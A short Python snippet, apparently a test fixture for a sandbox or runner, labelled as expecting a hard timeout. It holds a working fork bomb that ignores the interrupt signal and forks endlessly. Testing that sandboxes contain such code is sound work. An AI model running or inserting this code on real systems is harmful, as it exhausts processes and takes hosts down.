# why: processes that make processes, deaf to the interrupt
# expect: TIMEOUT_HARD
signal.signal(2, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
